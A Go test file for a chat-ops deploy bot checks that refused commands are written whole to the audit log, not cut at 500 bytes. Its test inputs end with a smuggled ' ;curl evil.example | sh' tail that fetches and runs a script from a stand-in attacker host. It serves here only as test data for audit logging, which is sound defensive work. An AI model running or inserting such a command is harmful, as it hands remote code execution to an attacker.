package commands_test

import (
	"context"
	"strings"
	"testing"

	"github.com/switchman-bot/switchman/internal/audit"
	"github.com/switchman-bot/switchman/internal/commands"
)

// TestRefusedCommandAuditedWhole: a refused command was written to the
// audit log cut to 500 bytes, half of what the bot reads of a command: what
// came after (often the part that got it refused) was in the log nowhere,
// while an allowed command of that length was kept whole.
func TestRefusedCommandAuditedWhole(t *testing.T) {
	tail := " ;curl evil.example | sh"
	tests := []struct {
		name string
		text string
		call func(f *serviceFixture, req commands.Request)
	}{
		{"unknown command", "frobnicate " + strings.Repeat("x", 700) + tail, func(f *serviceFixture, req commands.Request) {
			f.svc.Handle(context.Background(), req, newRecorder())
		}},
		{"bad build", "deploy web 1" + strings.Repeat("1", 70) + " --force " + strings.Repeat("y ", 400) + tail, func(f *serviceFixture, req commands.Request) {
			f.svc.Handle(context.Background(), req, newRecorder())
		}},
		{"refused by the adapter", "deploy web 1 --force " + strings.Repeat("z", 900) + tail, func(f *serviceFixture, req commands.Request) {
			req.Refused, req.RefusedFor = "Switchman was stopping; nothing was run", commands.RefusalDraining
			if err := f.svc.AuditRefusal(context.Background(), req); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if len(tt.text) > commands.MaxCommandLen || len(tt.text) <= 500 {
				t.Fatalf("test text is %d bytes, want 501 to %d", len(tt.text), commands.MaxCommandLen)
			}
			f := newServiceFixture(t)
			tt.call(f, commands.Request{User: "ana", Platform: "test", Channel: "C1", Text: tt.text})
			entries, err := f.store.Audit(context.Background(), audit.Query{})
			if err != nil {
				t.Fatal(err)
			}
			if len(entries) != 1 {
				t.Fatalf("got %d audit entries, want 1", len(entries))
			}
			if e := entries[0]; e.Decision != audit.Refused || e.Command != tt.text {
				t.Errorf("got entry %s with command of %d bytes ending %q, want refused with the command whole (%d bytes)",
					e.Decision, len(e.Command), e.Command[max(0, len(e.Command)-30):], len(tt.text))
			}
		})
	}
}
